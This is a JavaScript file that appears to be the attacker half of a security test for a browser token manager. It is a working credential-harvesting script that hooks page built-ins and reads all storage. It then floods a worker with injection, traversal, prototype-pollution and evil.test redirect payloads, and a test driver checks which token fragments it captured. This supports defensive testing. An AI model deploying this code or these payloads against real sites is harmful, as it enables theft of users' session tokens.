/* A hostile script in the page: it records all traffic, reads all storage, and requests everything that it can name. */
{
  /** Each run of characters that could be part of a token. */
  const loot = new Set();
  const { add: keep } = Set.prototype;
  const { match } = String.prototype;
  let seen = 0;
  const { apply } = Reflect;
  const decode = TextDecoder.prototype.decode;
  const decoder = new TextDecoder();
  const then = Promise.prototype.then;
  let busy = false;

  /** The number of objects read at a time. */
  let budget = 0;
  /** Any value as text. */
  const text = (value, depth = 0) => {
    if (typeof value === "string") return value;
    if (typeof value === "function") return value.name;
    if (typeof value !== "object" || value === null || depth > 5 || budget-- < 0) return String(value);
    try {
      if (value instanceof ArrayBuffer || ArrayBuffer.isView(value)) return apply(decode, decoder, [value]);
      if (value instanceof Headers || value instanceof Map || value instanceof Set)
        return text([...value], depth + 1);
      if (value instanceof Error)
        return `${value.name} ${value.message} ${value.stack} ${text({ ...value }, depth + 1)}`;
      if (value instanceof MessageEvent) return text(value.data, depth + 1);
      if (value instanceof Request || value instanceof Response) {
        return `${value.url} ${value.status} ${text(value.headers, depth + 1)}`;
      }
      const parts = [];
      for (const key of Reflect.ownKeys(value)) {
        if (budget < 0) break;
        const { value: inner } = Reflect.getOwnPropertyDescriptor(value, key) ?? {};
        parts[parts.length] = `${String(key)}: ${text(inner, depth + 1)}`;
      }
      return parts.join("\n");
    } catch (error) {
      return String(error);
    }
  };
  const see = (...values) => {
    if (busy) return;
    busy = true;
    budget = 500;
    seen++;
    try {
      for (const run of apply(match, text(values), [/[\w-]{12,}/g]) ?? []) apply(keep, loot, [run]);
    } catch {
      // An object without text: nothing to read.
    } finally {
      busy = false;
    }
  };

  /** Replaces a function by one that records its arguments and results. */
  const tap = (target, name) => {
    const original = target?.[name];
    if (typeof original !== "function") return;
    target[name] = function (...args) {
      see(name, this === globalThis ? undefined : this, args);
      const result = new.target ? Reflect.construct(original, args, new.target) : apply(original, this, args);
      see(name, result);
      return result;
    };
    if (original.prototype) target[name].prototype = original.prototype;
  };

  const install = () => {
    for (const name of [
      "fetch",
      "XMLHttpRequest",
      "WebSocket",
      "EventSource",
      "Worker",
      "SharedWorker",
      "MessageChannel",
      "BroadcastChannel",
      "Request",
      "Response",
      "Headers",
      "structuredClone",
      "TextDecoder",
      "queueMicrotask",
      "atob",
      "btoa",
      "encodeURIComponent",
      "decodeURIComponent",
    ]) {
      tap(globalThis, name);
    }
    for (const [type, ...names] of [
      [XMLHttpRequest, "open", "send", "setRequestHeader", "getResponseHeader"],
      [WebSocket, "send"],
      [MessagePort, "postMessage", "start", "close"],
      [Worker, "postMessage", "terminate"],
      [BroadcastChannel, "postMessage"],
      [Headers, "set", "append", "get"],
      [Response, "text", "json", "arrayBuffer", "clone"],
      [TextDecoder, "decode"],
      [Map, "get", "set", "delete"],
      [WeakMap, "get", "set"],
      [Set, "add"],
      [Storage, "setItem", "getItem"],
      [String, "replaceAll", "includes", "split", "slice"],
      [RegExp, "exec", "test"],
      [Error, "toString"],
      [AbortController, "abort"],
    ]) {
      for (const name of names) tap(type.prototype, name);
    }
    tap(Navigator.prototype, "sendBeacon");
    for (const name of ["parse", "stringify"]) tap(JSON, name);
    for (const name of ["assign", "entries", "fromEntries", "defineProperty", "freeze"]) tap(Object, name);
    for (const name of ["resolve", "all", "race"]) tap(Promise, name);
    for (const name of ["log", "debug", "warn", "error"]) tap(console, name);
    // Every value that any promise of the page resolves to.
    // biome-ignore lint/suspicious/noThenProperty: that is the attack.
    Promise.prototype.then = function (done, failed) {
      const record = (next) =>
        typeof next === "function"
          ? (value) => {
              see("then", value);
              return next(value);
            }
          : next;
      return apply(then, this, [record(done), record(failed)]);
    };
    // Every message to any listener of the page, and every new property that is written.
    const add = EventTarget.prototype.addEventListener;
    EventTarget.prototype.addEventListener = function (type, listener, ...rest) {
      const own =
        typeof listener === "function"
          ? function (event) {
              see("event", type, event);
              return apply(listener, this, [event]);
            }
          : listener;
      return apply(add, this, [type, own, ...rest]);
    };
    for (const type of [MessagePort, Worker]) {
      const accessor = Object.getOwnPropertyDescriptor(type.prototype, "onmessage");
      Object.defineProperty(type.prototype, "onmessage", {
        ...accessor,
        set(listener) {
          apply(accessor.set, this, [
            (event) => {
              see("onmessage", event);
              return listener?.call(this, event);
            },
          ]);
        },
      });
    }
    const data = Object.getOwnPropertyDescriptor(MessageEvent.prototype, "data");
    Object.defineProperty(MessageEvent.prototype, "data", {
      ...data,
      get() {
        const value = apply(data.get, this, []);
        see("data", value);
        return value;
      },
    });
    for (const name of [
      "token",
      "access_token",
      "accessToken",
      "authorization",
      "Authorization",
      "rejectedToken",
      "getToken",
    ]) {
      Object.defineProperty(Object.prototype, name, {
        configurable: true,
        get: () => undefined,
        set(value) {
          see(name, value);
          Object.defineProperty(this, name, { value, writable: true, configurable: true, enumerable: true });
        },
      });
    }
    addEventListener("error", (event) => see("error", event.message, event.error));
    addEventListener("unhandledrejection", (event) => see("unhandledrejection", event.reason));
    addEventListener("message", (event) => see("message", event));
    navigator.serviceWorker?.addEventListener("message", (event) => see("service worker", event.data));
    for (const name of [
      "cube",
      "token",
      "cube.token",
      "cube-token-manager",
      "cube-token-manager:cube.token",
      "cube.token:/token",
    ]) {
      new BroadcastChannel(name).addEventListener("message", (event) => see(event));
    }
  };

  const later = (ms) => new Promise((go) => setTimeout(go, ms));
  const done = (request) =>
    new Promise((resolve, reject) => {
      request.onsuccess = () => resolve(request.result);
      request.onerror = () => reject(request.error);
    });

  /** Reads all storage. */
  const read = async () => {
    see(document.cookie, { ...localStorage }, { ...sessionStorage }, name, history.state, location.href);
    see(document.documentElement.outerHTML);
    see((await globalThis.cookieStore?.getAll()) ?? "");
    for (const { name } of await indexedDB.databases()) {
      const database = await done(indexedDB.open(name));
      for (const store of database.objectStoreNames) {
        see(await done(database.transaction(store).objectStore(store).getAll()));
      }
      database.close();
    }
    for (const key of (await globalThis.caches?.keys()) ?? []) {
      const cache = await caches.open(key);
      for (const request of await cache.keys()) see(request.url, await (await cache.match(request)).text());
    }
    see((await navigator.serviceWorker?.getRegistrations()) ?? "", await navigator.locks?.query());
    see(performance.getEntries().map((entry) => entry.toJSON()));
    // The HTTP cache of the endpoint and of Cube. WebKit then asks the endpoint itself, which the server can detect.
    const headers = { "X-Attack": "cache" };
    for (const url of ["/token?from=worker", "/cubejs-api/v1/load", "/cubejs-api/v1/meta"]) {
      for (const init of [
        { cache: "only-if-cached", mode: "same-origin" },
        { cache: "force-cache", credentials: "omit" },
      ]) {
        see(await fetch(url, { ...init, headers }).then((response) => response.text(), String));
      }
    }
    // Everything reachable from the application's globals.
    const visited = new Set();
    const walk = (value, depth) => {
      if (
        (typeof value !== "object" && typeof value !== "function") ||
        value === null ||
        visited.has(value) ||
        depth > 6
      )
        return;
      visited.add(value);
      if (value === window && depth) return;
      for (const key of Reflect.ownKeys(value)) {
        const inner = Reflect.getOwnPropertyDescriptor(value, key)?.value;
        if (typeof inner === "string") see(String(key), inner);
        walk(inner, depth + 1);
      }
    };
    for (const root of [window.isolated, window.worker, window.cubeApi, window.tokens, window.chart])
      walk(root, 0);
    see(window.tokens.getSnapshot());
  };

  const HELLO = "cube-token-manager/isolated/1";
  const METHODS = [
    "load",
    "meta",
    "getToken",
    "token",
    "authorization",
    "clear",
    "constructor",
    "__proto__",
    "toString",
    "load\r\nX-Evil: 1",
    "load?x=",
    "load#",
    "../token",
    "../../token?from=worker",
    "/token",
    "//evil.test/load",
    "https://evil.test/load",
    "\\\\evil.test",
    "@evil.test/",
    "load/../../../token",
    "%2e%2e/token",
    "pre-aggregations/jobs",
    "run-scheduled-refresh",
  ];
  const PARAMS = [
    {},
    { query: { measures: ["Things.count"] } },
    { method: "PUT" },
    { method: "POST\r\nX: y" },
    { method: "TRACE" },
    { baseRequestId: "a\r\nX-Evil: 1" },
    { baseRequestId: "x".repeat(5000) },
    { headers: { "X-Evil": "1" } },
    { apiUrl: "https://evil.test", url: "https://evil.test", baseUrl: "//evil.test" },
    { authorization: "mine" },
    { signal: { aborted: true } },
    { credentials: "include", redirect: "follow", referrer: "https://evil.test" },
    { query: "x".repeat(3000), echo: "authorization" },
    { fetchTimeout: -1 },
    { params: { query: "SELECT 1" } },
  ];
  const STRANGE = [
    null,
    undefined,
    0,
    "",
    "token",
    "getToken",
    HELLO,
    [],
    {},
    [HELLO],
    [HELLO, 1],
    ["getToken", 1],
    { type: "getToken" },
    { cmd: "eval", code: "token" },
    { jsonrpc: "2.0", method: "getToken", id: 1 },
    { type: "GET", path: ["getToken"], id: "1" },
    JSON.parse('{"__proto__":{"storage":"local","endpoint":"https://evil.test"}}'),
    ["send"],
    ["bye", 1],
    ["pull", 0],
    ["event", { type: "refreshed" }, {}],
    ["answer", 1, {}],
    ["hello", {}],
    new Map([["__proto__", 1]]),
    new Date(),
    Object.assign([], { 0: "send", 1: 1, 2: "load", 3: "{}", __proto__: null }),
    new ArrayBuffer(8),
    ["send", 2 ** 53, "load", "{}", true],
  ];

  /** Asks a worker for everything, over its own port and over a new one. */
  const askWorker = async (worker) => {
    const target = worker.port ?? worker;
    target.addEventListener("message", (event) => see("worker", event));
    worker.addEventListener("error", (event) => see("worker error", event.message));
    const { port1, port2 } = new MessageChannel();
    port1.onmessage = (event) => see("port", event);
    target.postMessage([HELLO, `mine${Math.random()}`, port2], [port2]);
    for (const message of STRANGE) {
      for (const port of [target, port1]) {
        try {
          port.postMessage(message);
        } catch (error) {
          see(error);
        }
      }
    }
    let id = 1000;
    for (const method of METHODS) {
      for (const params of PARAMS) {
        const json = JSON.stringify(params);
        port1.postMessage(["send", ++id, method, json, false]);
        port1.postMessage(["send", id, method, json, true]);
        port1.postMessage(["stream", ++id, method, json, false]);
        port1.postMessage(["pull", id]);
      }
    }
    for (const type of ["token", "getToken", "eval", "constructor", "__proto__", "onEvent"]) {
      for (const rest of [[], [1], [1, "token"], [1, { token: true }]]) port1.postMessage([type, ...rest]);
    }
    // As if its token had been refused: errors, or the request for another one, may reveal something.
    port1.postMessage(["invalidate"]);
    await later(1500);
    port1.postMessage(["clear", ++id]);
    await later(500);
    port1.postMessage(["bye"]);
  };

  const attack = {
    /** Everything that can be done without being the user. */
    async run() {
      await read();
      await askWorker(window.worker);
      // A worker of its own, with the same script, and from a window with untouched built-ins.
      for (const start of [
        () => new Worker("/cube-worker.js", { name: "token" }),
        () => new SharedWorker("/cube-worker.js"),
      ]) {
        const mine = start();
        await askWorker(mine);
        mine.terminate?.();
        mine.port?.close();
      }
      const frame = document.body.appendChild(document.createElement("iframe"));
      await askWorker(new frame.contentWindow.Worker("/cube-worker.js#token"));
      frame.remove();
      await read();
    },

    /** Asks the endpoint itself, in four ways; resolves to the results. */
    async askEndpoint() {
      const from = (kind) => `/token?from=${kind}`;
      const results = {};
      const init = {
        credentials: "include",
        headers: { "X-Requested-With": "XMLHttpRequest", "Sec-Fetch-Dest": "worker" },
      };
      results.page = await fetch(from("page"), init).then((response) => response.text());
      const inWorker = (source, options) =>
        new Promise((resolve) => {
          const url = URL.createObjectURL(new Blob([source], { type: "text/javascript" }));
          const worker = new Worker(url, options);
          worker.onmessage = ({ data }) => resolve(data);
          worker.onerror = (event) => resolve(`error ${event.message}`);
          setTimeout(resolve, 8000, "nothing");
        });
      const { origin } = location;
      results.worker = await inWorker(
        `fetch("${origin}${from("own")}").then((response) => response.text()).then(postMessage);`,
      );
      // The application's script in a worker of its own, with another fetch.
      const patch = `
        const real = fetch;
        const original = fetch;
        self.fetch = async (url, init) => {
          const response = await original(new URL(String(url).replace("from=worker", "from=imported"), "${origin}"), init);
          if (String(url).includes("/token")) postMessage(await response.clone().text());
          return response;
        };
        postMessage = ((post) => (...args) => post.apply(self, args))(self.postMessage);
      `;
      const start = `
        const { port1, port2 } = new MessageChannel();
        port1.onmessage = ({ data: [type] }) => type === "hello" && port1.postMessage(["send", 1, "meta", "{}", false]);
        dispatchEvent(new MessageEvent("message", { data: ["${HELLO}", "x", port2] }));
      `;
      const answered = (data) => (data === HELLO ? undefined : data);
      const listening = (source, options) =>
        new Promise((resolve) => {
          const url = URL.createObjectURL(new Blob([source], { type: "text/javascript" }));
          const worker = new Worker(url, options);
          worker.onmessage = ({ data }) => answered(data) !== undefined && resolve(data);
          worker.onerror = (event) => resolve(`error ${event.message}`);
          setTimeout(resolve, 8000, "nothing");
        });
      results.imported = await listening(`${patch} importScripts("${origin}/cube-worker.js"); ${start}`);
      const first = URL.createObjectURL(new Blob([patch], { type: "text/javascript" }));
      const last = URL.createObjectURL(new Blob([start], { type: "text/javascript" }));
      const lines = [`import "${first}";`, `import "${origin}/cube-worker.js";`, `import "${last}";`];
      results.module = await listening(lines.join("\n"), { type: "module" });
      results.source = await fetch("/cube-worker.js").then((response) => response.text());
      return results;
    },

    /** Registers a service worker of its own, and restarts the application's worker under it. */
    async serviceWorker(script) {
      const registration = await navigator.serviceWorker.register(script);
      const coming = registration.installing ?? registration.waiting ?? registration.active;
      await new Promise((resolve) => {
        if (coming.state === "activated") resolve();
        coming.onstatechange = () => coming.state === "activated" && resolve();
        setTimeout(resolve, 5000);
      });
      navigator.serviceWorker.startMessages?.();
      await later(300);
      const worker = new Worker("/cube-worker.js");
      const { port1, port2 } = new MessageChannel();
      await new Promise((resolve) => {
        port1.onmessage = ({ data: [type] }) => {
          if (type === "hello") port1.postMessage(["send", 1, "meta", "{}", false]);
          if (type === "answer" || type === "failure") resolve();
        };
        worker.postMessage([HELLO, "sw", port2], [port2]);
        setTimeout(resolve, 5000);
      });
      await later(500);
      worker.terminate();
      await registration.unregister();
    },

    /** Which of these it has found, by index. In hexadecimal, so that the driver's own messages do not match. */
    found(needles) {
      busy = true;
      const found = [];
      for (const [index, hex] of needles.entries()) {
        let needle = "";
        for (let at = 0; at < hex.length; at += 2) {
          needle += String.fromCharCode(Number.parseInt(hex[at] + hex[at + 1], 16));
        }
        if ([...loot].some((each) => each.includes(needle))) found.push(index);
      }
      busy = false;
      return found;
    },
    size: () => seen,
  };
  Object.defineProperty(window, "attack", { value: attack });
  install();
}
